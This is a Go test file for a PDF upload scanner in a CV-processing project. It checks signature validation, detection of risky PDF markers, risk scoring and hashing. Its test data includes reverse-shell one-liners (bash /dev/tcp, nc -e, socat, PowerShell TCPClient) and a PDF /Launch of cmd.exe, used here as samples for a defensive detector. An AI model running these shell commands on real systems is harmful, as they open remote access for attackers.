package security

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"github.com/mu7ammad-3li/cv-lize/internal/models"
)

var cleanPDF = []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")

func pdfWith(payload string) []byte {
	return append(append([]byte{}, cleanPDF...), []byte(payload)...)
}

func TestValidateCleanPDF(t *testing.T) {
	s := NewScanner()
	res := s.Validate(cleanPDF)

	if !res.IsValid {
		t.Fatalf("clean PDF marked invalid: %+v", res.Findings)
	}
	if len(res.Findings) != 0 {
		t.Errorf("expected no findings, got %d", len(res.Findings))
	}
	if res.Risk != models.RiskSafe {
		t.Errorf("expected risk safe, got %s", res.Risk)
	}
	if len(res.ContentHash) != 64 {
		t.Errorf("expected 64 hex chars of SHA-256, got %q", res.ContentHash)
	}
}

func TestValidateInvalidSignature(t *testing.T) {
	s := NewScanner()

	inputs := [][]byte{
		[]byte("not a pdf"),
		[]byte(""),
		[]byte("%PD"),
		[]byte("\x7fELF\x02\x01\x01"),
		[]byte("PK\x03\x04 zip content"),
	}

	for _, in := range inputs {
		res := s.Validate(in)
		if res.IsValid {
			t.Errorf("%q: expected invalid", in)
		}
		if len(res.Findings) != 1 {
			t.Fatalf("%q: expected exactly one finding, got %d", in, len(res.Findings))
		}
		f := res.Findings[0]
		if f.Kind != models.KindInvalidSignature || f.Severity != models.SeverityCritical {
			t.Errorf("%q: got finding %+v", in, f)
		}
		if res.Risk != models.RiskCritical {
			t.Errorf("%q: expected risk critical, got %s", in, res.Risk)
		}
		if res.ContentHash == "" {
			t.Errorf("%q: hash must be computed even for invalid signatures", in)
		}
	}
}

// The signature stage short-circuits: a non-PDF full of shell payloads
// still reports only the signature finding.
func TestSignatureShortCircuit(t *testing.T) {
	s := NewScanner()
	res := s.Validate([]byte("bash -i >&/dev/tcp/10.0.0.1/4444 0>&1"))

	if len(res.Findings) != 1 || res.Findings[0].Kind != models.KindInvalidSignature {
		t.Fatalf("expected single invalid-signature finding, got %+v", res.Findings)
	}
}

func TestValidateDetectsPatterns(t *testing.T) {
	s := NewScanner()

	tests := []struct {
		name     string
		payload  string
		kind     models.FindingKind
		severity models.Severity
	}{
		{"javascript", "/JavaScript (app.alert(1))", models.KindScriptContent, models.SeverityHigh},
		{"js_short", "/JS (this.exportDataObject())", models.KindScriptContent, models.SeverityHigh},
		{"open_action", "/OpenAction 5 0 R", models.KindAutoAction, models.SeverityHigh},
		{"additional_actions", "/AA << /O 6 0 R >>", models.KindAutoAction, models.SeverityHigh},
		{"rich_media", "/RichMedia << /Type /Annot >>", models.KindRichMedia, models.SeverityHigh},
		{"acroform", "/AcroForm << /Fields [] >>", models.KindScriptContent, models.SeverityHigh},
		{"eval", "eval (unescapedPayload)", models.KindScriptContent, models.SeverityHigh},
		{"from_char_code", "String.fromCharCode(104,105)", models.KindScriptContent, models.SeverityHigh},
		{"embedded_file", "/EmbeddedFile << /Subtype /application#2Fpdf >>", models.KindEmbeddedFile, models.SeverityCritical},
		{"launch", "/Launch << /F (cmd.exe) >>", models.KindFileLaunch, models.SeverityCritical},
		{"object_stream", "/ObjStm << /N 10 >>", models.KindObjectStream, models.SeverityCritical},
		{"goto_remote", "/GoToR << /F (\\\\\\\\attacker\\\\share) >>", models.KindRemoteGoto, models.SeverityCritical},
		{"xfa", "/XFA [(template) 10 0 R]", models.KindXFAForm, models.SeverityHigh},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := s.Validate(pdfWith(tt.payload))
			if res.IsValid {
				t.Fatalf("payload %q not detected", tt.payload)
			}
			found := false
			for _, f := range res.Findings {
				if f.Kind == tt.kind {
					found = true
					if f.Severity != tt.severity {
						t.Errorf("kind %s: expected severity %s, got %s", tt.kind, tt.severity, f.Severity)
					}
				}
			}
			if !found {
				t.Errorf("expected a %s finding, got %+v", tt.kind, res.Findings)
			}
		})
	}
}

func TestValidateReverseShells(t *testing.T) {
	s := NewScanner()

	payloads := []string{
		"bash -i >&/dev/tcp/10.0.0.1/4444 0>&1",
		"python -c \"import socket,os\"",
		"socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
		"socat exec:'bash -li'",
		"nc -nlvp 4444 -e bash",
		"nc 10.0.0.1 4444 -e /bin/sh",
		"php -r '$s=socket_create(AF_INET,SOCK_STREAM,0);'",
		"fsockopen(\"10.0.0.1\",4444)",
		"powershell -c \"$c=New-Object Net.Sockets.TCPClient\"",
		"new java.net.Socket(host, port)",
		"require 'socket'; TCPSocket.new",
		"POWERSHELL -NOP -NONI -W HIDDEN -E JABjAGwA", // case-insensitive
	}

	for _, payload := range payloads {
		res := s.Validate(pdfWith(payload))
		if res.IsValid {
			t.Errorf("payload %q not detected", payload)
			continue
		}
		var shell *models.Finding
		for i := range res.Findings {
			if res.Findings[i].Kind == models.KindReverseShell {
				shell = &res.Findings[i]
				break
			}
		}
		if shell == nil {
			t.Errorf("payload %q: no reverse-shell finding in %+v", payload, res.Findings)
			continue
		}
		if shell.Severity != models.SeverityCritical {
			t.Errorf("payload %q: severity %s, want critical", payload, shell.Severity)
		}
		if res.Risk != models.RiskCritical {
			t.Errorf("payload %q: risk %s, want critical", payload, res.Risk)
		}
	}
}

// Script markers are case-sensitive as written in PDF object syntax; a
// lowercase variant must not fire the stage.
func TestScriptPatternsCaseSensitive(t *testing.T) {
	s := NewScanner()
	res := s.Validate(pdfWith("/javascript /openaction /acroform"))
	for _, f := range res.Findings {
		if f.Kind == models.KindScriptContent || f.Kind == models.KindAutoAction {
			t.Errorf("lowercase marker should not match, got %+v", f)
		}
	}
}

func TestValidateReportsAllFindings(t *testing.T) {
	s := NewScanner()
	res := s.Validate(pdfWith("/OpenAction 1 0 R\n/EmbeddedFile x\n/XFA y\nfsockopen(h,p)"))

	kinds := map[models.FindingKind]bool{}
	for _, f := range res.Findings {
		kinds[f.Kind] = true
	}
	for _, want := range []models.FindingKind{
		models.KindAutoAction,
		models.KindEmbeddedFile,
		models.KindXFAForm,
		models.KindReverseShell,
	} {
		if !kinds[want] {
			t.Errorf("missing %s in combined scan: %+v", want, res.Findings)
		}
	}
}

func TestHashDeterministicAndSensitive(t *testing.T) {
	s := NewScanner()

	a := s.Validate(cleanPDF)
	b := s.Validate(append([]byte{}, cleanPDF...))
	if a.ContentHash != b.ContentHash {
		t.Errorf("hash not deterministic: %s vs %s", a.ContentHash, b.ContentHash)
	}

	mutated := append([]byte{}, cleanPDF...)
	mutated[len(mutated)-1] ^= 0x01
	c := s.Validate(mutated)
	if c.ContentHash == a.ContentHash {
		t.Error("single byte change produced identical hash")
	}
}

func TestValidateIdempotent(t *testing.T) {
	s := NewScanner()
	in := pdfWith("/OpenAction 1 0 R and bash -i >&/dev/tcp/1.2.3.4/9001")

	first := s.Validate(in)
	for i := 0; i < 5; i++ {
		again := s.Validate(in)
		if !reflect.DeepEqual(first, again) {
			t.Fatalf("run %d differs: %+v vs %+v", i, first, again)
		}
	}
}

// Finding order is stable: stage order, then catalog order within a stage.
func TestFindingOrderStable(t *testing.T) {
	s := NewScanner()
	res := s.Validate(pdfWith("/EmbeddedFile x /JavaScript y"))

	if len(res.Findings) < 2 {
		t.Fatalf("expected at least two findings, got %+v", res.Findings)
	}
	if res.Findings[0].Kind != models.KindScriptContent {
		t.Errorf("script stage should precede embedded-file stage, got %s first", res.Findings[0].Kind)
	}
}

func TestRiskLevelThresholds(t *testing.T) {
	high := models.Finding{Kind: models.KindScriptContent, Severity: models.SeverityHigh}
	low := models.Finding{Kind: models.KindScriptContent, Severity: models.SeverityLow}
	med := models.Finding{Kind: models.KindScriptContent, Severity: models.SeverityMedium}
	crit := models.Finding{Kind: models.KindReverseShell, Severity: models.SeverityCritical}

	tests := []struct {
		name     string
		findings []models.Finding
		want     models.RiskLevel
	}{
		{"empty", nil, models.RiskSafe},
		{"single_critical", []models.Finding{crit}, models.RiskCritical},
		{"critical_wins_over_highs", []models.Finding{high, high, high, crit}, models.RiskCritical},
		{"one_high", []models.Finding{high}, models.RiskMedium},
		{"two_highs", []models.Finding{high, high}, models.RiskMedium},
		{"three_highs", []models.Finding{high, high, high}, models.RiskHigh},
		{"only_low", []models.Finding{low}, models.RiskLow},
		{"only_medium", []models.Finding{med, med}, models.RiskLow},
		{"high_plus_low", []models.Finding{high, low}, models.RiskMedium},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := RiskLevel(tt.findings); got != tt.want {
				t.Errorf("RiskLevel() = %s, want %s", got, tt.want)
			}
		})
	}
}

// Adding a finding to a non-empty set never lowers the computed risk.
func TestRiskLevelMonotonic(t *testing.T) {
	severities := []models.Severity{
		models.SeverityLow,
		models.SeverityMedium,
		models.SeverityHigh,
		models.SeverityCritical,
	}

	base := []models.Finding{{Kind: models.KindScriptContent, Severity: models.SeverityHigh}}
	for i := 0; i < 4; i++ {
		prev := RiskLevel(base)
		for _, sev := range severities {
			grown := append(append([]models.Finding{}, base...), models.Finding{
				Kind:     models.KindScriptContent,
				Severity: sev,
			})
			if got := RiskLevel(grown); got < prev {
				t.Errorf("adding %s finding lowered risk %s -> %s", sev, prev, got)
			}
		}
		base = append(base, models.Finding{Kind: models.KindScriptContent, Severity: models.SeverityHigh})
	}
}

// Single-high-then-three-high scenario from the upload contract: one
// /OpenAction marker alone is medium, three independent high-only markers
// compound to high.
func TestHighOnlyRiskScenarios(t *testing.T) {
	s := NewScanner()

	one := s.Validate(pdfWith("/OpenAction 5 0 R"))
	if one.Risk != models.RiskMedium {
		t.Errorf("one high finding: risk %s, want medium", one.Risk)
	}
	if len(one.Findings) != 1 {
		t.Fatalf("expected one finding, got %+v", one.Findings)
	}

	three := s.Validate(pdfWith("/OpenAction 5 0 R /AA << >> /XFA z"))
	highs := 0
	for _, f := range three.Findings {
		if f.Severity == models.SeverityHigh {
			highs++
		}
	}
	if highs != 3 {
		t.Fatalf("expected three high findings, got %+v", three.Findings)
	}
	if three.Risk != models.RiskHigh {
		t.Errorf("three high findings: risk %s, want high", three.Risk)
	}
}

func TestScannerWithCustomCatalog(t *testing.T) {
	catalog := Catalog{
		Script: []Pattern{script(`forbidden`, "forbidden")},
	}
	s := NewScannerWithCatalog(catalog)

	if res := s.Validate(pdfWith("forbidden word")); res.IsValid {
		t.Error("custom catalog pattern not applied")
	}
	// Default catalog patterns must not leak into a custom scanner.
	if res := s.Validate(pdfWith("/EmbeddedFile x")); !res.IsValid {
		t.Errorf("default patterns leaked into custom catalog: %+v", res.Findings)
	}
}

func TestValidateLargeContent(t *testing.T) {
	s := NewScanner()
	var buf bytes.Buffer
	buf.Write(cleanPDF)
	buf.WriteString(strings.Repeat("stream data without any markers\n", 50_000))

	if res := s.Validate(buf.Bytes()); !res.IsValid {
		t.Errorf("large benign content flagged: %+v", res.Findings)
	}
}
